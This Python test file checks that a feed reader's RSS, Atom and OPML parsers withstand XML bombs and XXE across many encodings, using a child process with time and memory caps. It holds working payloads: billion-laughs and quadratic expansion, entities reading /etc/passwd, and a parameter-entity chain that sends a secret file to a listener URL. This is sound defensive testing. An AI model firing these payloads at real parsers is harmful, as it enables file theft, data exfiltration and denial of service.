"""XML bombs and external entities: billion laughs, quadratic blow-up, XXE, external DTDs and
parameter entities, in every encoding feedparser would decode, through every entry point.

Each document is parsed in a child process that reports what came out, how long each case took
and how far its peak memory rose; a case that runs away is stopped by an alarm, and the child has
an address-space cap, so a regression fails the test instead of taking the machine down.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from newstui.domain.errors import ParseError
from newstui.sources.content import render_body
from newstui.sources.parse import parse_document

REPO = Path(__file__).resolve().parent.parent
SECRET = "SECRET-XXE-7f3a9c"
CASE_SECONDS = 10.0  # a safety net for a runaway case, not a speed requirement
MAX_RSS_GROWTH_MB = 200
BIG = "A" * 100_000
PASSWD_MARKERS = ("root:", "/bin/sh", "/bin/bash", "nologin", SECRET)


# ---- documents -------------------------------------------------------------------------------


def laughs() -> str:
    lines = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        refs = f"&lol{i - 1};" if i > 1 else "&lol;"
        lines.append(f'<!ENTITY lol{i} "{refs * 10}">')
    return "\n".join(lines)


def bombs(secret: Path, port: int) -> dict[str, tuple[str, str, str]]:
    """name -> (DOCTYPE, title text, body text); the body also gets plain text around it."""
    dtd = f"http://127.0.0.1:{port}/evil.dtd"
    return {
        "billion_laughs": (f"<!DOCTYPE feed [\n{laughs()}\n]>", "&lol9;", "&lol9;"),
        "quadratic": (f'<!DOCTYPE feed [\n<!ENTITY big "{BIG}">\n]>', "&big;", "&big;" * 10_000),
        "quadratic_lowercase_doctype": (
            f'<!doctype feed [\n<!ENTITY big "{BIG}">\n]>',
            "&big;",
            "&big;" * 10_000,
        ),
        "external_entity": (
            '<!DOCTYPE feed [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
            f'<!ENTITY sec SYSTEM "file://{secret}">\n]>',
            "&xxe;&sec;",
            "&xxe;&sec;",
        ),
        "external_dtd": (f'<!DOCTYPE feed SYSTEM "{dtd}">', "&ext;", "&ext;"),
        "external_dtd_public": (
            f'<!DOCTYPE feed PUBLIC "-//EVIL//DTD x//EN" "file://{secret}">',
            "&ext;",
            "&ext;",
        ),
        "parameter_entities": (
            "<!DOCTYPE feed [\n"
            f'<!ENTITY % file SYSTEM "file://{secret}">\n'
            f'<!ENTITY % dtd SYSTEM "{dtd}">\n'
            "%dtd;\n"
            "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:"
            f"{port}/?x=%file;'>\">\n"
            "%eval;\n%exfil;\n"
            f'<!ENTITY % big "{BIG}">\n'
            '<!ENTITY all "%big;%big;%big;%big;">\n'
            "]>",
            "&exfil;&all;",
            "&all;" * 2_000,
        ),
        "doctype_bracket_in_comment": (
            f'<!DOCTYPE feed [\n<!-- ]> -->\n<!ENTITY big "{BIG}">\n]>',
            "&big;",
            "&big;" * 10_000,
        ),
        "bracket_in_entity_value": (
            f'<!DOCTYPE feed [\n<!ENTITY a "]>">\n<!ENTITY big "{BIG}">\n]>',
            "&big;",
            "&big;" * 10_000,
        ),
        "xinclude": (
            "",
            "XInclude",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" '
            'parse="text"/>',
        ),
    }


def rss_document(doctype: str, title: str, body: str) -> str:
    return (
        f"{doctype.replace('DOCTYPE feed', 'DOCTYPE rss').replace('doctype feed', 'doctype rss')}"
        '\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://example.org/</link>"
        f"<item><title>{title}</title><guid>bomb</guid>"
        f"<description>before {body} after</description></item>"
        "<item><title>Plain item</title><guid>plain</guid>"
        "<description>plain body</description></item>"
        "</channel></rss>"
    )


def atom_document(doctype: str, title: str, body: str) -> str:
    return (
        f"{doctype}\n"
        '<feed xmlns="http://www.w3.org/2005/Atom"><id>urn:bomb</id>'
        f"<title>{title}</title><updated>2026-11-01T12:00:00Z</updated>"
        f"<entry><id>urn:bomb:1</id><title>{title}</title>"
        "<updated>2026-11-01T12:00:00Z</updated>"
        f"<content type=\"xhtml\"><div xmlns='http://www.w3.org/1999/xhtml'>before {body} after"
        "</div></content></entry>"
        "<entry><id>urn:bomb:2</id><title>Plain item</title>"
        "<updated>2026-11-01T11:00:00Z</updated><summary>plain body</summary></entry>"
        "</feed>"
    )


def opml_document(doctype: str, title: str, body: str) -> str:
    return (
        f"{doctype.replace('DOCTYPE feed', 'DOCTYPE opml').replace('doctype feed', 'doctype opml')}"
        f'\n<opml version="2.0"><head><title>{title}</title></head><body>'
        f'<outline text="{title}" type="rss" xmlUrl="https://example.org/feed"/>'
        f'<outline text="b" title="{body[:50_000]}" type="rss" xmlUrl="https://example.org/b"/>'
        "</body></opml>"
    )


def declared(text: str, encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{text}'


def encodings_of(text: str) -> Iterator[tuple[str, bytes, dict[str, str]]]:
    """The same document in every form whose markup byte patterns cannot see."""
    yield "utf-8", declared(text, "utf-8").encode(), {}
    yield "utf-8 after 70 KB of whitespace", (" \n" * 35_000 + text).encode(), {}
    yield "utf-16 with BOM", declared(text, "utf-16").encode("utf-16"), {}
    yield "utf-16be declared", declared(text, "utf-16be").encode("utf-16-be"), {}
    yield "utf-32", declared(text, "utf-32").encode("utf-32"), {}
    yield "cp037 (EBCDIC)", declared(text, "cp037").encode("cp037"), {}
    escaped = "".join(f"\\x{ord(c):02x}" if c in "<>&!%" else c for c in text)
    yield "unicode_escape", declared(escaped, "unicode_escape").encode(), {}
    yield (
        "utf-16le by HTTP header",
        text.encode("utf-16-le"),
        {"Content-Type": "application/rss+xml; charset=utf-16le"},
    )
    yield "utf-7", declared(text, "utf-7").encode("utf-7"), {}


# ---- the child process -----------------------------------------------------------------------


class CaseTimeout(BaseException):  # not caught by the code under test
    pass


def _alarm(_signum: int, _frame: Any) -> None:
    raise CaseTimeout


def _texts(value: Any) -> list[str]:
    """Every string inside a result: dataclasses, tuples, whatever shape."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, list | tuple):
        return [t for v in value for t in _texts(v)]
    slots = getattr(type(value), "__slots__", None) or getattr(value, "__dict__", {})
    return [t for name in slots for t in _texts(getattr(value, name, None))]


def run_cases() -> None:
    """Child: read the cases from argv[1], run them through argv[2], print a JSON report."""
    from newstui.domain.errors import NewstuiError
    from newstui.sources.local import read_local
    from newstui.sources.opml import parse_opml

    cases = json.loads(Path(sys.argv[1]).read_text())
    entry = sys.argv[2]
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, resource.RLIM_INFINITY))
    signal.signal(signal.SIGALRM, _alarm)

    def call(case: dict[str, Any]) -> Any:
        path = Path(case["path"])
        if entry == "parse_document":
            return parse_document(path.read_bytes(), url=None, headers=case["headers"])
        if entry == "read_local":
            return read_local(path)
        return parse_opml(path.read_bytes(), source=path.name)

    # Warm up: imports and first-use caches are not what is being measured.
    for case in cases[:1]:
        with contextlib.suppress(NewstuiError):
            call(case)
    report = {}
    for case in cases:
        baseline = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        signal.setitimer(signal.ITIMER_REAL, CASE_SECONDS)
        outcome: dict[str, Any]
        try:
            result = call(case)
            outcome = {"outcome": type(result).__name__, "text": "\n".join(_texts(result))}
        except NewstuiError as exc:
            outcome = {"outcome": type(exc).__name__, "text": str(exc)}
        except CaseTimeout:
            outcome = {"outcome": "timeout", "text": ""}
        except BaseException as exc:
            outcome = {"outcome": f"unexpected {type(exc).__name__}", "text": repr(exc)[:500]}
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        outcome["seconds"] = round(time.monotonic() - started, 2)
        outcome["rss_growth_mb"] = (peak - baseline) // 1024  # ru_maxrss is in KiB on Linux
        outcome["text_chars"] = len(outcome["text"])
        outcome["text"] = outcome["text"][:2_000_000]
        report[case["name"]] = outcome
    print(json.dumps(report))


# ---- the tests -------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port that records whether anything tried to fetch a DTD or an entity from it."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    yield server
    server.close()


def nobody_connected(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return True
    conn.close()
    return False


def run_in_child(tmp_path: Path, entry: str, cases: list[dict[str, Any]]) -> dict[str, Any]:
    spec = tmp_path / "cases.json"
    spec.write_text(json.dumps(cases))
    code = "from tests.test_xml_bombs import run_cases; run_cases()"
    proc = subprocess.run(
        [sys.executable, "-c", code, str(spec), entry],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=100,
        env={**os.environ, "NO_PROXY": "*", "no_proxy": "*"},
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout)


def check(report: dict[str, Any], allowed: set[str]) -> None:
    problems = []
    for name, got in report.items():
        if got["outcome"] not in allowed:
            problems.append(f"{name}: {got['outcome']} {got['text'][:300]!r}")
        if got["seconds"] > CASE_SECONDS:
            problems.append(f"{name}: took {got['seconds']} s")
        if got["rss_growth_mb"] > MAX_RSS_GROWTH_MB:
            problems.append(f"{name}: peak memory rose {got['rss_growth_mb']} MB")
        if got["text_chars"] > 2_000_000:
            problems.append(f"{name}: {got['text_chars']} characters of text came out")
        leaked = [m for m in PASSWD_MARKERS if m in got["text"]]
        if leaked:
            problems.append(f"{name}: file contents in the result: {leaked}")
        if "lollollol" in got["text"] or "A" * 200_000 in got["text"]:
            problems.append(f"{name}: an entity was expanded")
    assert not problems, "\n".join(problems)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\nroot:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    return path


def feed_cases(tmp_path: Path, secret: Path, port: int) -> list[dict[str, Any]]:
    cases = []
    for bomb, (doctype, title, body) in bombs(secret, port).items():
        for kind, build in (("rss", rss_document), ("atom", atom_document)):
            for enc, data, headers in encodings_of(build(doctype, title, body)):
                if enc != "utf-8" and bomb not in ("quadratic", "external_entity"):
                    continue  # every bomb in UTF-8; the two worst in every encoding
                name = f"{kind} {bomb} [{enc}]"
                path = tmp_path / f"case{len(cases)}.xml"
                path.write_bytes(data)
                cases.append({"name": name, "path": str(path), "headers": headers})
    return cases


def test_feed_bombs_through_parse_document(
    tmp_path: Path, secret: Path, listener: socket.socket
) -> None:
    cases = feed_cases(tmp_path, secret, listener.getsockname()[1])
    report = run_in_child(tmp_path, "parse_document", cases)
    check(report, {"ParsedFeed", "ParseError", "NotAFeedError"})
    assert nobody_connected(listener), "an external DTD or entity was fetched"
    # The plain entries around the bombs survive in the plain UTF-8 documents.
    for name in ("rss quadratic [utf-8]", "atom billion_laughs [utf-8]"):
        assert "plain body" in report[name]["text"], report[name]


def test_feed_bombs_through_read_local(
    tmp_path: Path, secret: Path, listener: socket.socket
) -> None:
    cases = [c for c in feed_cases(tmp_path, secret, listener.getsockname()[1]) if not c["headers"]]
    report = run_in_child(tmp_path, "read_local", cases)
    check(report, {"ParsedFeed", "ParseError", "NotAFeedError", "SourceError"})
    assert nobody_connected(listener), "an external DTD or entity was fetched"


def test_opml_bombs_are_refused(tmp_path: Path, secret: Path, listener: socket.socket) -> None:
    cases = []
    for bomb, (doctype, title, body) in bombs(secret, listener.getsockname()[1]).items():
        for enc, data, _headers in encodings_of(opml_document(doctype, title, body)):
            if enc.startswith(("utf-8", "utf-16", "cp037")) or bomb == "quadratic":
                path = tmp_path / f"case{len(cases)}.opml"
                path.write_bytes(data)
                cases.append({"name": f"opml {bomb} [{enc}]", "path": str(path), "headers": {}})
    report = run_in_child(tmp_path, "parse_opml", cases)
    check(report, {"OPMLResult", "OPMLError"})
    assert nobody_connected(listener), "an external DTD or entity was fetched"
    for name, got in report.items():
        if "xinclude" not in name and "70 KB" not in name:
            assert got["outcome"] == "OPMLError", (name, got["text"][:300])


# ---- feedparser raising, deep HTML ---------------------------------------------------------------

RAISING = [
    "&#x110000;",
    "&#1114112;",
    "&#xD800;",
    "&#x7FFFFFFFFFFFFFFF;",
    "&#99999999999999999999;",
]


@pytest.mark.parametrize("ref", RAISING)
@pytest.mark.parametrize("loose", [False, True])
def test_characters_that_make_feedparser_raise_are_a_parse_error(ref: str, loose: bool) -> None:
    broken = "<br>" if loose else ""  # not well-formed: feedparser's loose parser
    doc = (
        f'<rss version="2.0"><channel><title>t{ref}</title><item><title>a{ref}b</title>'
        f"<description>x{ref}y{broken}</description></item></channel></rss>"
    ).encode()
    try:
        feed = parse_document(doc)
    except ParseError as exc:
        assert "Traceback" not in str(exc) and "\n" not in str(exc)
    else:  # a parser that copes is fine too, as long as what it gives is clean
        for entry in feed.entries:
            assert "\ud800" not in entry.title + entry.content


@pytest.mark.parametrize(
    "exc",
    [ValueError("chr() arg"), OverflowError("int"), UnicodeEncodeError("utf-8", "", 0, 1, "x")],
)
def test_any_feedparser_exception_becomes_a_parse_error(
    monkeypatch: pytest.MonkeyPatch, exc: Exception
) -> None:
    import feedparser

    def boom(*_args: Any, **_kwargs: Any) -> Any:
        raise exc

    monkeypatch.setattr(feedparser, "parse", boom)
    # Not well-formed, so no faster parser can take it before feedparser does.
    doc = b'<rss version="2.0"><channel><item><title>x<br></title></item></channel></rss>'
    with pytest.raises(ParseError, match=type(exc).__name__):
        parse_document(doc)


@pytest.mark.parametrize(
    ("opening", "closing"),
    [("<div>", "</div>"), ("<ul><li>", ""), ("<i><b>", "</b></i>")],
)
def test_100000_nested_elements_render_and_show_their_text(opening: str, closing: str) -> None:
    body = opening * 100_000 + "DEEPTEXT" + closing * 100_000 + "<p>AFTERTEXT</p>"
    assert len(body) < 2_000_000  # render_body's cap: the whole document is rendered
    started = time.monotonic()
    rendered = render_body(body, "html")
    assert time.monotonic() - started < 30  # a safety net: it was 40 s to 200 s when quadratic
    assert "DEEPTEXT" in rendered.markdown
    assert "AFTERTEXT" in rendered.markdown


def test_100000_nested_elements_in_a_feed_body() -> None:
    body = "<div>" * 100_000 + "DEEPTEXT" + "</div>" * 100_000
    doc = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item><title>deep'
        f"</title><description><![CDATA[{body}]]></description></item>"
        '<item><title>x</title><description><x xmlns="urn:x">' + "<x>" * 50_000 + "NESTED"
        "</x>" * 50_000 + "</x></description></item></channel></rss>"
    ).encode()
    feed = parse_document(doc)
    rendered = render_body(feed.entries[0].content, feed.entries[0].content_type)
    assert "DEEPTEXT" in rendered.markdown
